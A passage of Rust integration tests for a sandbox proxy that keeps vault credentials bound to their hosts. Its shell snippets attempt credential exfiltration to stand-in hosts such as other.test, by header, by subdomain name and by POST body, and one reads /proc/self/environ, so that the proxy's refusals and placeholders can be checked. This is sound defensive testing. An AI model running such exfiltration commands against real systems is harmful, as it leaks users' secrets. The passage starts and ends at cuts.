        s.sh(r#"curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" "http://other.test:$CANARY/""#);
    assert!(body.stdout.contains("rule: credential"), "{}", body.stdout);
    assert!(body.stdout.contains("env:GITHUB_TOKEN"), "{}", body.stdout);
    assert!(!body.stdout.contains(TOKEN));
}

/// A placeholder in a name to look up (a CONNECT target, a SOCKS5 name) is refused and
/// logged naming the entry; the twin, the same SOCKS5 request for an allowed name, goes
/// through. Each run gets placeholders of its own.
#[test]
fn a_placeholder_in_a_name_is_refused_and_placeholders_are_per_run() {
    let s = Setup::new();
    let socks = r#"
import os, socket, struct, urllib.parse
tok = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"]).password.encode()
def socks(host, port):
    s = socket.create_connection(("127.0.0.1", 1080), timeout=30)
    s.sendall(b"\x05\x01\x02"); s.recv(2)
    s.sendall(bytes([1, 7]) + b"gitloop" + bytes([len(tok)]) + tok); s.recv(2)
    s.sendall(bytes([5, 1, 0, 3, len(host)]) + host + struct.pack(">H", port))
    r = s.recv(10)
    return r[1] if len(r) > 1 else "closed"
port = int(os.environ["OTHER"])
print("socks-name =>", socks((os.environ["GITHUB_TOKEN"] + ".other.test").encode(), port))
print("socks-allowed =>", socks(b"other.test", port))
"#;
    let run = s
        .sh(&format!(
            "export OTHER; python3 -c {}\n\
             curl -sS -o /dev/null -w 'connect-name => %{{http_code}}\\n' \
             \"https://$GITHUB_TOKEN.other.test:$OTHER/\" 2>&1 | grep -o 'connect-name => .*\\|CONNECT.*'\n\
             echo \"placeholder => $GITHUB_TOKEN\"",
            shell_quote(socks)
        ))
        .ok();
    assert_eq!(probe(&run, "socks-allowed"), "0");
    let refused = probe(&run, "socks-name");
    assert!(refused != "0" && refused != "closed", "{}", run.stdout);
    let credential: Vec<_> = s
        .violations()
        .into_iter()
        .filter(|v| v["rule"] == "credential" && v["entry"] == "env:GITHUB_TOKEN")
        .collect();
    let suffix = format!(".other.test:{}", s.other.port);
    for via in ["socks", "connect"] {
        assert!(
            credential
                .iter()
                .any(|v| v["via"] == via && v["target"].as_str().unwrap().ends_with(&suffix)),
            "no credential violation via {via}: {credential:#?}\n{}",
            run.stdout
        );
    }
    assert!(s.other.seen().is_empty(), "{:#?}", s.other.seen());
    let events = fs::read_to_string(s.env.loop_dir(&s.id).join("events.jsonl")).unwrap();
    assert!(!events.contains(TOKEN), "{events}");
    // Another run, another placeholder, of the same shape.
    let first = probe(&run, "placeholder").to_string();
    let again = s.sh("echo \"placeholder => $GITHUB_TOKEN\"").ok();
    let second = probe(&again, "placeholder");
    assert_ne!(first, second);
    for p in [first.as_str(), second] {
        assert!(
            p.starts_with("ghp_") && p.len() == TOKEN.len() && p != TOKEN,
            "{p}"
        );
    }
}

/// Bindings in the allowlist's two wildcard forms: `*.bound.test` (any subdomain) and
/// `llm.*.test` (one label) put the value in toward the hosts they match; a host neither
/// matches is reached through a plain tunnel and gets the placeholder.
#[test]
fn wildcard_bindings_match_as_in_the_allowlist() {
    let s = Setup::new();
    let port = s.bound.port;
    s.env
        .run([
            "vault",
            "bind",
            "default",
            "GITHUB_TOKEN",
            &format!("*.bound.test:{port}"),
        ])
        .ok();
    s.env
        .run([
            "vault",
            "bind",
            "default",
            "LLM_KEY",
            &format!("llm.*.test:{port}"),
        ])
        .ok();
    let run = s
        .sh(r#"
curl -sS -o /dev/null -w 'sub => %{http_code}\n' -H "Authorization: Bearer $GITHUB_TOKEN" "https://api.bound.test:$BOUND/sub"
curl -sS -o /dev/null -w 'label => %{http_code}\n' -H "x-api-key: $LLM_KEY" "https://llm.bound.test:$BOUND/label"
curl -sS -o /dev/null -w 'neither => %{http_code}\n' --cacert tls/ca.pem -H "Authorization: Bearer $GITHUB_TOKEN" "https://other.test:$OTHER/neither"
"#)
        .ok();
    for label in ["sub", "label", "neither"] {
        assert_eq!(probe(&run, label), "200", "{label}: {}", run.stderr);
    }
    let seen = s.bound.seen();
    let get = |p: &str| seen.iter().find(|r| r.path == p).unwrap().clone();
    assert_eq!(
        get("/sub").headers["authorization"],
        format!("Bearer {TOKEN}")
    );
    assert_eq!(get("/label").headers["x-api-key"], OTHER);
    let neither = s.other.seen();
    let auth = &neither[0].headers["authorization"];
    assert!(
        auth.starts_with("Bearer ghp_") && !auth.contains(TOKEN),
        "{auth}"
    );
}

/// Upstream, the proxy speaks TLS verified against the trusted roots and the operator's
/// `upstream_ca`: a server for a bound name whose certificate another CA signed gets no
/// request (the client gets a 502 and the run an `upstream` event); the twin, the same
/// request to the server the test CA signed, arrives with the value.
#[test]
fn a_bound_host_is_reached_only_with_a_verified_certificate() {
    let s = Setup::new();
    let rogue = Https::start(&test_ca(&["llm.bound.test"]), None);
    s.env
        .run([
            "vault",
            "bind",
            "default",
            "LLM_KEY",
            &format!(
                "llm.bound.test:{},llm.bound.test:{}",
                s.bound.port, rogue.port
            ),
        ])
        .ok();
    let run = s
        .sh(&format!(
            "ROGUE={}; H=\"x-api-key: $LLM_KEY\"\n\
             curl -sS -o /dev/null -w 'rogue => %{{http_code}}\\n' -H \"$H\" \"https://llm.bound.test:$ROGUE/rogue\"\n\
             curl -sS -o /dev/null -w 'verified => %{{http_code}}\\n' -H \"$H\" \"https://llm.bound.test:$BOUND/verified\"",
            rogue.port
        ))
        .ok();
    assert_eq!(probe(&run, "rogue"), "502", "{}", run.stderr);
    assert_eq!(probe(&run, "verified"), "200");
    assert!(rogue.seen().is_empty(), "{:#?}", rogue.seen());
    let seen = s.bound.seen();
    let verified = seen.iter().find(|r| r.path == "/verified").unwrap();
    assert_eq!(verified.headers["x-api-key"], OTHER);
    let events = fs::read_to_string(s.env.loop_dir(&s.id).join("events.jsonl")).unwrap();
    assert!(
        events
            .lines()
            .any(|l| l.contains("\"upstream\"")
                && l.contains(&format!("llm.bound.test:{}", rogue.port))),
        "{events}"
    );
    assert!(!events.contains(OTHER), "{events}");
}

/// On a connection the proxy ends, every request is checked: keep-alive over HTTP/1.1 and
/// streams over HTTP/2 reach the bound host, and a request on the same connection that
/// names another host (domain fronting) is refused.
#[test]
fn every_request_on_an_ended_connection_is_checked() {
    let s = Setup::new();
    let run = s.sh(r#"
H="Authorization: Bearer $GITHUB_TOKEN"
curl -sS --http1.1 -H "$H" -w '%{http_code} %{http_version} %{num_connects}\n' -o /dev/null "https://api.bound.test:$BOUND/k1" -o /dev/null "https://api.bound.test:$BOUND/k2" | sed 's/^/h1 => /'
curl -sS --http2 -H "$H" -w '%{http_code} %{http_version} %{num_connects}\n' -o /dev/null "https://api.bound.test:$BOUND/s1" -o /dev/null "https://api.bound.test:$BOUND/s2" | sed 's/^/h2 => /'
curl -sS --http1.1 -o /dev/null -w 'front-h1 => %{http_code}\n' -H "Host: other.test:$OTHER" "https://api.bound.test:$BOUND/front1"
curl -sS --http2 -o /dev/null -w 'front-h2 => %{http_code}\n' -H "Host: other.test:$OTHER" "https://api.bound.test:$BOUND/front2"
curl -sS -o /dev/null -D - -H "$H" "https://api.bound.test:$BOUND/echo" | grep -i '^x-echo' | sed 's/^/echo => /'
"#).ok();
    let lines: Vec<&str> = run
        .stdout
        .lines()
        .filter(|l| l.starts_with("h1 => "))
        .collect();
    assert_eq!(
        lines,
        ["h1 => 200 1.1 1", "h1 => 200 1.1 0"],
        "{}",
        run.stdout
    );
    let lines: Vec<&str> = run
        .stdout
        .lines()
        .filter(|l| l.starts_with("h2 => "))
        .collect();
    assert_eq!(lines, ["h2 => 200 2 1", "h2 => 200 2 0"], "{}", run.stdout);
    assert_eq!(probe(&run, "front-h1"), "403");
    assert_eq!(probe(&run, "front-h2"), "403");
    // A value a server sends back reaches the sandbox as the placeholder.
    let echo = probe(&run, "echo");
    assert!(
        echo.contains("Bearer ghp_") && !echo.contains(TOKEN),
        "{echo}"
    );
    let seen = s.bound.seen();
    let get = |p: &str| {
        seen.iter()
            .find(|r| r.path == p)
            .unwrap_or_else(|| panic!("{p}: {seen:#?}"))
    };
    for p in ["/k1", "/k2", "/s1", "/s2"] {
        assert_eq!(
            get(p).headers["authorization"],
            format!("Bearer {TOKEN}"),
            "{p}"
        );
    }
    // Both requests of each client connection came over one connection to the server.
    assert_eq!(get("/k1").conn, get("/k2").conn);
    assert_eq!(get("/s1").conn, get("/s2").conn);
    assert!(seen.iter().all(|r| !r.path.starts_with("/front")));
    assert!(s.other.seen().is_empty());
    let fronting: Vec<_> = s
        .violations()
        .into_iter()
        .filter(|v| v["rule"] == "host-mismatch")
        .collect();
    assert_eq!(fronting.len(), 2, "{fronting:#?}");
}

/// A large answer on a connection the proxy ends comes back whole and in order, over
/// HTTP/1.1 and HTTP/2 and after a small one on the same connection (the proxy reads
/// both sockets in large reads, and hands the server's answer on in large pieces).
#[test]
fn a_large_answer_comes_back_whole() {
    let s = Setup::new();
    const N: usize = 12 << 20;
    let run = s.sh(&format!(
        r#"
H="Authorization: Bearer $GITHUB_TOKEN"
for v in 1.1 2; do
  curl -sS --http$v -H "$H" "https://api.bound.test:$BOUND/small$v" -o /dev/null "https://api.bound.test:$BOUND/large/{N}" -o /tmp/large$v -w '%{{http_code}} %{{size_download}} %{{num_connects}}
' | tail -n 1 | sed "s/^/get$v => /"
  echo "sum$v => $(sha256sum < /tmp/large$v | cut -d' ' -f1)"
done
"#
    ));
    let run = run.ok();
    let file = s.env.root.join("large");
    fs::write(&file, large_body(N)).unwrap();
    let out = std::process::Command::new("sha256sum")
        .arg(&file)
        .output()
        .unwrap();
    let expected = String::from_utf8(out.stdout).unwrap();
    let expected = expected.split_whitespace().next().unwrap();
    for v in ["1.1", "2"] {
        assert_eq!(probe(&run, &format!("get{v}")), format!("200 {N} 0"), "{v}");
        assert_eq!(probe(&run, &format!("sum{v}")), expected, "{v}");
    }
    let seen = s.bound.seen();
    let large: Vec<_> = seen
        .iter()
        .filter(|r| r.path.starts_with("/large/"))
        .collect();
    assert_eq!(large.len(), 2, "{seen:#?}");
    for r in large {
        assert_eq!(r.headers["authorization"], format!("Bearer {TOKEN}"));
    }
}

/// The search of `the_value_is_nowhere_inside` finds what is there: the twin with an
/// unbound entry, whose value is in the environment of every process inside.
#[test]
fn an_unbound_value_is_found_inside_by_the_same_search() {
    let s = Setup::new();
    const PLAIN: &str = "plain-value-0123456789-abcdefghij";
    vault_set(
        &s.env,
        &["vault", "set", "default", "env", "PLAIN_TOKEN"],
        PLAIN,
    )
    .ok();
    let reversed: String = PLAIN.chars().rev().collect();
    let run = s
        .env
        .run([
            "run",
            "-q",
            &s.id,
            "--",
            "python3",
            "-c",
            r#"
import os, sys
value = sys.argv[1][::-1].encode()
found = [p for p in ("/proc/self/environ",) if value in open(p, "rb").read()]
print("found =>", found)
"#,
            &reversed,
        ])
        .ok();
    // In its own environment (pid 1's, git-loop's init, is not dumpable and shows no one
    // its environment).
    assert_eq!(probe(&run, "found"), "['/proc/self/environ']");
    let show = s.env.run(["show", &s.id]).ok();
    show.stdout_has("plaintext:  1 entry (env:PLAIN_TOKEN)");
    show.stdout_has(&format!(
        "bound:      env:GITHUB_TOKEN for api.bound.test:{} (a placeholder inside)",
        s.bound.port
    ));
    let json = s.env.run(["show", &s.id, "--json"]).ok().json();
    assert_eq!(
        json["receives"]["plaintext"],
        serde_json::json!(["env:PLAIN_TOKEN"])
    );
    assert_eq!(
        json["receives"]["bound"]["env:GITHUB_TOKEN"],
        serde_json::json!([format!("api.bound.test:{}", s.bound.port)])
    );
}

/// Bodies the proxy cannot hold whole are searched as they stream: a placeholder deep in
/// a large plain-HTTP body ends the request before that part is sent on; on a connection
/// the proxy ends, another entry's placeholder in a body of any type is refused. Twin:
/// the same large body without it goes through whole.
#[test]
fn placeholders_in_large_bodies_are_found_as_they_stream() {
    let s = Setup::new();
    // A plain-HTTP server that reads everything it is sent, and keeps it.
    let sink = StdListener::bind("127.0.0.1:0").unwrap();
    let sink_port = sink.local_addr().unwrap().port();
    let received = Arc::new(Mutex::new(Vec::<u8>::new()));
    let r = received.clone();
    std::thread::spawn(move || {
        for stream in sink.incoming() {
            let Ok(mut st) = stream else { continue };
            let _ = st.set_read_timeout(Some(Duration::from_secs(10)));
            let mut buf = vec![0u8; 65536];
            while let Ok(n) = st.read(&mut buf) {
                if n == 0 {
                    break;
                }
                r.lock().unwrap().extend_from_slice(&buf[..n]);
            }
        }
    });
    let run = s.sh(&(format!("SINK={sink_port}; ") + r#"
head -c 3000000 /dev/zero | tr '\0' a > /tmp/big
cp /tmp/big /tmp/big-with; printf '%s' "$GITHUB_TOKEN" >> /tmp/big-with; head -c 1000 /dev/zero | tr '\0' b >> /tmp/big-with
curl -sS -o /dev/null -w 'big-clean => %{http_code}\n' --data-binary @/tmp/big "https://api.bound.test:$BOUND/big-clean" -H 'Content-Type: application/octet-stream'
curl -sS -o /dev/null -w 'big-plain => %{http_code}\n' --data-binary @/tmp/big-with "http://other.test:$SINK/big" 2>&1
printf 'head %s tail' "$LLM_KEY" > /tmp/small
curl -sS -o /dev/null -w 'small-other-entry => %{http_code}\n' --data-binary @/tmp/small -H 'Content-Type: application/octet-stream' "https://api.bound.test:$BOUND/small"
cp /tmp/big /tmp/big-llm; printf '%s' "$LLM_KEY" >> /tmp/big-llm
curl -sS -o /dev/null -w 'big-other-entry => %{http_code}\n' --data-binary @/tmp/big-llm -H 'Content-Type: application/json' "https://api.bound.test:$BOUND/big-json"
"#)).ok();
    assert_eq!(probe(&run, "big-clean"), "200");
    // The sink got the head and the start of the body, and the connection's end before
    // the placeholder.
    let got = received.lock().unwrap().clone();
    assert!(
        got.starts_with(b"POST /big HTTP/1.1"),
        "{}",
        String::from_utf8_lossy(&got[..got.len().min(200)])
    );
    assert!(memchr::memmem::find(&got, b"ghp_").is_none());
    assert!(got.len() < 3_000_000, "{}", got.len());
    assert_eq!(probe(&run, "small-other-entry"), "403");
    assert_eq!(probe(&run, "big-other-entry"), "403");
    let seen = s.bound.seen();
    let clean = seen.iter().find(|r| r.path == "/big-clean").unwrap();
    assert_eq!(clean.body.len(), 3_000_000);
    // The small body was refused before anything went on; the large one was stopped
    // before its end, and the server never got a whole request.
    assert!(seen.iter().all(|r| r.path != "/small"));
    assert!(seen
        .iter()
        .filter(|r| r.path == "/big-json")
        .all(|r| !r.complete));
    s.assert_credential_violation(&format!("other.test:{sink_port}"), "env:GITHUB_TOKEN");
    s.assert_credential_violation(&format!("api.bound.test:{}", s.bound.port), "env:LLM_KEY");
}

/// A bound file: each credential in it is a placeholder inside, and the proxy puts the
/// real one in (curl reads the `.netrc`). A file with nothing to bind is refused at once.
#[test]
fn a_bound_file_holds_placeholders_and_works() {
    let s = Setup::new();
    let netrc = s.env.root.join("netrc");
    fs::write(
        &netrc,
        format!("machine api.bound.test login x-access-token password {TOKEN}\n"),
    )
    .unwrap();
    s.env
        .run([
            "vault",
            "set",
            "default",
            "file",
            ".netrc",
            netrc.to_str().unwrap(),
            "--for",
            &format!("api.bound.test:{}", s.bound.port),
        ])
        .ok();
    let run = s
        .sh(r#"
grep -c "$(printf 'ghp_')" ~/.netrc | sed 's/^/shape => /'
curl -sS --netrc -o /dev/null -w 'netrc => %{http_code}\n' "https://api.bound.test:$BOUND/netrc"
"#)
        .ok();
    assert_eq!(probe(&run, "shape"), "1");
    assert_eq!(probe(&run, "netrc"), "200");
    let seen = s.bound.seen();
    let got = seen.iter().find(|r| r.path == "/netrc").unwrap();
    let expected = format!(
        "Basic {}",
        base64::Engine::encode(
            &base64::engine::general_purpose::STANDARD,
            format!("x-access-token:{TOKEN}")
        )
    );
    assert_eq!(got.headers["authorization"], expected);
    let inside = s.sh("cat ~/.netrc").ok();
    assert!(!inside.stdout.contains(TOKEN), "{}", inside.stdout);
    assert!(inside.stdout.contains("password ghp_"), "{}", inside.stdout);
    // Nothing a placeholder could stand for: refused, nothing stored.
    let plain = s.env.root.join("config");
    fs::write(&plain, "[core]\n\teditor = vim\n").unwrap();
    s.env
        .run([
            "vault",
            "set",
            "default",
            "file",
            ".config/x",
            plain.to_str().unwrap(),
            "--for",
            "api.bound.test",
        ])
        .fails(2)
        .stderr_has("cannot be bound to hosts");
    let list = s.env.run(["vault", "list", "--json"]).ok().json();
    let names: Vec<&str> = list[0]["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["name"].as_str().unwrap())
        .collect();
    assert!(!names.contains(&".config/x"), "{names:?}");
}

/// The binding's life on the command line: `--for` stores it, a new value keeps it, `bind`
/// changes it and `--unbound` drops it; bad hosts are usage errors; a known token left
/// unbound gets its suggested binding; `vault.require_binding` refuses unbound entries
/// where they are stored and where they would be delivered. Nothing prints a value.
#[test]
fn bindings_are_kept_changed_and_required() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let id = env.new_loop(&repo, "bindings");
    let set = vault_set(
        &env,
        &[
            "vault",
            "set",
            "default",
            "env",
            "GITHUB_TOKEN",
            "--for",
            "github.com,*.github.com",
        ],
        TOKEN,
    )
    .ok();
    set.stderr_has("bound to github.com, *.github.com");
    let hosts = |env: &TestEnv| -> serde_json::Value {
        let list = env.run(["vault", "list", "--json"]).ok().json();
        list[0]["entries"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["name"] == "GITHUB_TOKEN")
            .unwrap()["for"]
            .clone()
    };
    assert_eq!(
        hosts(&env),
        serde_json::json!(["github.com", "*.github.com"])
    );
    // The binding is in the entry's ciphertext: no file of the vaults' checkout names the
    // hosts (git's own objects are compressed, so a search there would prove nothing).
    let mut stack = vec![env.ws.join("vaults")];
    let mut files = 0;
    while let Some(dir) = stack.pop() {
        for e in fs::read_dir(&dir).unwrap().flatten() {
            let p = e.path();
            if e.file_type().unwrap().is_dir() {
                if e.file_name() != ".git" {
                    stack.push(p);
                }
            } else {
                files += 1;
                let data = fs::read(&p).unwrap();
                assert!(
                    memchr::memmem::find(&data, b"github.com").is_none(),
                    "{}",
                    p.display()
                );
            }
        }
    }
    assert!(
        fs::read(env.ws.join("vaults/tester/default/envs/GITHUB_TOKEN.age")).is_ok() && files > 1,
        "{files}"
    );
    // A new value keeps the binding; `get` prints the value alone.
    vault_set(
        &env,
        &["vault", "set", "default", "env", "GITHUB_TOKEN"],
        "ghp_rotated",
    )
    .ok();
    assert_eq!(
        hosts(&env),
        serde_json::json!(["github.com", "*.github.com"])
    );
    let got = env
        .run(["vault", "get", "default", "env", "GITHUB_TOKEN"])
        .ok();
    assert_eq!(got.stdout, "ghp_rotated\n");
    env.run(["vault", "bind", "default", "GITHUB_TOKEN", "api.github.com"])
        .ok();
    assert_eq!(hosts(&env), serde_json::json!(["api.github.com"]));
    let unbound = env
        .run(["vault", "bind", "default", "env:GITHUB_TOKEN", "--unbound"])
        .ok();
    unbound.stderr_has("hint: bind it so that only its hosts receive it: git loop vault bind default env:GITHUB_TOKEN github.com,*.github.com");
    assert_eq!(hosts(&env), serde_json::json!([]));
    let text = env.run(["vault", "list"]).ok();
    text.stdout_has("(1 plaintext, 0 bound)");
    assert!(!text.stdout.contains("ghp_rotated"));
    // Hosts are the allowlist's forms.
    for bad in ["*", "127.0.0.1", "a.*.*.b"] {
        vault_set(
            &env,
            &["vault", "set", "default", "env", "X", "--for", bad],
            "v",
        )
        .fails(2)
        .stderr_has("--for:");
    }
    env.run(["vault", "bind", "default", "NOPE", "a.example"])
        .fails(1);
    // Required: refused where stored, and at the run of a loop whose vault has one.
    let dir = env.home.join(".config/git-loop");
    fs::create_dir_all(&dir).unwrap();
    fs::write(dir.join("config.toml"), "[vault]\nrequire_binding = true\n").unwrap();
    vault_set(
        &env,
        &["vault", "set", "default", "env", "GH_TOKEN"],
        "ghp_x",
    )
    .fails(2)
    .stderr_has("--for github.com,*.github.com");
    let run = env.run(["run", "-q", &id, "--", "true"]).fails(1);
    run.stderr_has("env:GITHUB_TOKEN");
    run.stderr_has("git loop vault bind default env:GITHUB_TOKEN github.com,*.github.com");
    // Bound, it runs.
    env.run(["vault", "bind", "default", "GITHUB_TOKEN", "api.github.com"])
        .ok();
    env.run(["run", "-q", &id, "--", "true"]).ok();
    // A layer the agent's work reaches cannot lift it.
    let personal = env.ws.join("personal/tester/.loopat");
    fs::create_dir_all(&personal).unwrap();
    fs::write(
        personal.join("config.toml"),
        "[vault]\nrequire_binding = false\n",
    )
    .unwrap();
    vault_set(
        &env,
        &["vault", "set", "default", "env", "OTHER_TOKEN"],
        "x",
    )
    .fails(2);
}

/// `agent login` binds the key to the agent's API host unless told otherwise.
#[test]
fn agent_login_binds_to_the_agents_api() {
    let env = TestEnv::new();
    env.agent_login();
    let list = env.run(["vault", "list", "--json"]).ok().json();
    let entry = list[0]["entries"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["name"] == "ANTHROPIC_API_KEY")
        .unwrap()
        .clone();
    assert_eq!(entry["for"], serde_json::json!(["api.anthropic.com"]));
    let unbound = vault_set(&env, &["agent", "login", "--unbound"], "sk-ant-api03-x").ok();
    unbound.stderr_has("is unbound");
    let list = env.run(["vault", "list", "--json"]).ok().json();
    assert_eq!(list[0]["entries"][0]["for"], serde_json::json!([]));
}

// ---------------------------------------------------------------------------------------
// Issue 27: credential fields only, per host and port; nothing comes back
// ---------------------------------------------------------------------------------------

/// Every form of `value` a server might echo it in: as it is, percent-encoded, hex, and
/// for base64 (both alphabets) the run of characters that depends on the value alone,
/// for each of the three places the value can start in a group of three bytes.
fn forms_of(value: &str) -> Vec<String> {
    use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
    use base64::Engine;
    let mut out = vec![
        value.to_string(),
        pct(value),
        hex(value),
        hex(value).to_uppercase(),
    ];
    for k in 0..3 {
        let mut bytes = vec![0u8; k];
        bytes.extend_from_slice(value.as_bytes());
        let (first, last) = ((8 * k).div_ceil(6), (8 * k + 8 * value.len()) / 6);
        out.push(STANDARD_NO_PAD.encode(&bytes)[first..last].to_string());
        out.push(URL_SAFE_NO_PAD.encode(&bytes)[first..last].to_string());
    }
    out
}

/// No form of the value in `text` (named `what` in the failure).
#[track_caller]
fn assert_no_form(what: &str, text: &str) {
    for form in forms_of(TOKEN) {
        assert!(!text.contains(&form), "{what} holds {form}:\n{text}");
    }
}

/// The value goes into the fields that carry credentials (Authorization, Basic
/// credentials, the token headers) and nowhere else: User-Agent, Cookie, a header of the
/// client's own and a Referer get the placeholder, from curl and from requests alike. A
/// binding that names headers (`--header`) puts it there too; nothing here is refused.
#[test]
fn a_value_goes_into_credential_fields_only() {
    let s = Setup::new();
    let fields = r#"
echo "placeholder => $GITHUB_TOKEN"
curl -sS -o /dev/null -w "fields$N => %{http_code}\n" "https://api.bound.test:$BOUND/fields$N" \
  -H "Authorization: Bearer $GITHUB_TOKEN" -H "User-Agent: agent/$GITHUB_TOKEN" \
  -H "X-Custom: $GITHUB_TOKEN" -H "Cookie: t=$GITHUB_TOKEN" -H "X-Api-Key: $GITHUB_TOKEN" \
  -H "Private-Token: $GITHUB_TOKEN" -H "Referer: https://x.example/?t=$GITHUB_TOKEN"
curl -sS -o /dev/null -w "basic$N => %{http_code}\n" -u "x-access-token:$GITHUB_TOKEN" "https://api.bound.test:$BOUND/basic$N"
python3 - <<EOF
import os, requests
t = os.environ["GITHUB_TOKEN"]
r = requests.get("https://api.bound.test:$BOUND/requests$N", auth=("x-access-token", t),
    headers={"User-Agent": "py/" + t, "X-Custom": t})
print("requests$N =>", r.status_code)
EOF
"#;
    let run = s.sh(&format!("N=1; {fields}")).ok();
    for label in ["fields1", "basic1", "requests1"] {
        assert_eq!(probe(&run, label), "200", "{label}: {}", run.stderr);
    }
    let ph = probe(&run, "placeholder").to_string();
    let seen = s.bound.seen();
    let get = |p: &str| seen.iter().find(|r| r.path == p).unwrap().headers.clone();
    let basic = |v: &str| format!("Basic {}", b64(&format!("x-access-token:{v}")));
    let f = get("/fields1");
    assert_eq!(f["authorization"], format!("Bearer {TOKEN}"));
    assert_eq!(f["x-api-key"], TOKEN);
    assert_eq!(f["private-token"], TOKEN);
    assert_eq!(f["user-agent"], format!("agent/{ph}"));
    assert_eq!(f["x-custom"], ph);
    assert_eq!(f["cookie"], format!("t={ph}"));
    assert_eq!(f["referer"], format!("https://x.example/?t={ph}"));
    assert_eq!(get("/basic1")["authorization"], basic(TOKEN));
    let r = get("/requests1");
    assert_eq!(r["authorization"], basic(TOKEN));
    assert_eq!(r["user-agent"], format!("py/{ph}"));
    assert_eq!(r["x-custom"], ph);
    // Named headers carry it; the others still do not.
    let port = s.bound.port;
    s.env
        .run([
            "vault",
            "bind",
            "default",
            "GITHUB_TOKEN",
            &format!("api.bound.test:{port}"),
            "--header",
            "X-Custom,Cookie",
        ])
        .ok();
    s.env.run(["vault", "list"]).ok().stdout_has(&format!(
        "for api.bound.test:{port} (also in x-custom, cookie)"
    ));
    let run = s.sh(&format!("N=2; {fields}")).ok();
    let ph = probe(&run, "placeholder").to_string();
    let seen = s.bound.seen();
    let get = |p: &str| seen.iter().find(|r| r.path == p).unwrap().headers.clone();
    let f = get("/fields2");
    assert_eq!(f["x-custom"], TOKEN);
    assert_eq!(f["cookie"], format!("t={TOKEN}"));
    assert_eq!(f["user-agent"], format!("agent/{ph}"));
    assert_eq!(f["referer"], format!("https://x.example/?t={ph}"));
    assert_eq!(get("/requests2")["x-custom"], TOKEN);
    assert!(s.violations().is_empty(), "{:#?}", s.violations());
}

/// A server that echoes what it received (headers and body, in every form servers
/// write credentials in: raw, percent-encoded, base64 both ways, hex, Basic) hands the
/// sandbox only the placeholder's forms: over HTTP/1.1 and HTTP/2, in a body sent in
/// pieces of 7 bytes (every form cut across pieces), gzip-compressed, in response headers
/// and cookies; an answer in a coding the proxy cannot read is refused (502).
#[test]
fn no_form_of_the_value_comes_back() {
    let s = Setup::new();
    let run = s
        .sh(r#"
echo "placeholder => $GITHUB_TOKEN"
mkdir -p got
H="Authorization: Bearer $GITHUB_TOKEN"
for v in 1.1 2; do
  for m in mirror mirror-split mirror-gzip; do
    curl -sS --http$v --compressed -H "$H" -D "got/$m-$v.head" -o "got/$m-$v.body" \
      -w "$m-$v => %{http_code} %{http_version}\n" "https://api.bound.test:$BOUND/$m"
  done
done
python3 - <<EOF
import os, requests
r = requests.get("https://api.bound.test:$BOUND/mirror-gzip",
    headers={"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]})
open("got/requests.body", "w").write(r.text)
open("got/requests.head", "w").write("\n".join("%s: %s" % kv for kv in r.headers.items()))
print("requests =>", r.status_code, r.headers.get("content-encoding"))
EOF
curl -sS -H "$H" -o got/br.body -w 'br => %{http_code}\n' "https://api.bound.test:$BOUND/mirror-br"
"#)
        .ok();
    let ph = probe(&run, "placeholder").to_string();
    for v in ["1.1", "2"] {
        for m in ["mirror", "mirror-split", "mirror-gzip"] {
            assert_eq!(
                probe(&run, &format!("{m}-{v}")),
                format!("200 {v}"),
                "{m} {v}"
            );
        }
    }
    assert_eq!(probe(&run, "requests"), "200 None");
    assert_eq!(probe(&run, "br"), "502");
    // The server received the value, and the requests asked for gzip.
    let seen = s.bound.seen();
    let gz: Vec<&Seen> = seen.iter().filter(|r| r.path == "/mirror-gzip").collect();
    assert_eq!(gz.len(), 3, "{seen:#?}");
    for r in &gz {
        assert_eq!(r.headers["authorization"], format!("Bearer {TOKEN}"));
        assert_eq!(r.headers["accept-encoding"], "gzip");
    }
    // What the sandbox got: no form of the value, and each form of the placeholder
    // exactly where the server wrote the value's.
    let got = s.env.workdir(&s.id).join("got");
    let auth = format!("Bearer {ph}");
    let mut files = 0;
    for entry in fs::read_dir(&got).unwrap() {
        let path = entry.unwrap().path();
        let text = fs::read_to_string(&path).unwrap();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        assert_no_form(&name, &text);
        files += 1;
        if name.ends_with(".body") && name != "br.body" {
            for line in [
                format!("raw: {auth}"),
                format!("pct: {}", pct(&auth)),
                format!("b64: {}", b64(&auth)),
                format!("b64url: {}", b64url(&auth)),
                format!("hex: {}", hex(&auth)),
                format!("basic: {}", b64(&format!("x-access-token:{ph}"))),
            ] {
                assert!(text.contains(&line), "{name} lacks {line}:\n{text}");
            }
        } else if name.ends_with(".head") {
            let text = text.to_ascii_lowercase();
            for line in [
                format!("x-echo: {auth}"),
                format!("x-echo-b64: {}", b64(&auth)),
                format!("x-echo-hex: {}", hex(&auth)),
                format!("set-cookie: seen={}", pct(&auth)),
            ] {
                let line = line.to_ascii_lowercase();
                assert!(text.contains(&line), "{name} lacks {line}:\n{text}");
            }
            assert!(!text.contains("content-encoding"), "{name}:\n{text}");
        }
    }
    assert_eq!(files, 15);
    s.env
        .run(["log", &s.id])
        .ok()
        .stdout_has("which the proxy cannot read to keep bound credentials out");
}

/// A redirect whose Location carries the value (as it is, or in base64) is refused and
/// recorded, followed or not; nothing reaches where it points. The twin: a redirect
/// without it comes through.
#[test]
fn a_redirect_that_carries_the_value_is_refused() {
    let s = Setup::new();
    let run = s
        .sh(r#"
H="Authorization: Bearer $GITHUB_TOKEN"
R="https://api.bound.test:$BOUND/redirect?to=https://other.test:$OTHER"
curl -sS -o got.txt -w 'raw => %{http_code}\n' -H "$H" "$R/landing1?t=TOKEN_HERE"
cat got.txt
curl -sS -L -o /dev/null -w 'followed => %{http_code}\n' -H "$H" "$R/landing2?t=TOKEN_HERE"
curl -sS -L -o /dev/null -w 'b64 => %{http_code}\n' -H "$H" "$R/landing3?c=B64_HERE"
curl -sS -o /dev/null -w 'plain => %{http_code} %{redirect_url}\n' -H "$H" "$R/landing4"
"#)
        .ok();
    assert_eq!(probe(&run, "raw"), "403");
    assert_eq!(probe(&run, "followed"), "403");
    assert_eq!(probe(&run, "b64"), "403");
    assert!(run.stdout.contains("rule: credential"), "{}", run.stdout);
    assert_no_form("the refusal", &run.stdout);
    assert_eq!(
        probe(&run, "plain"),
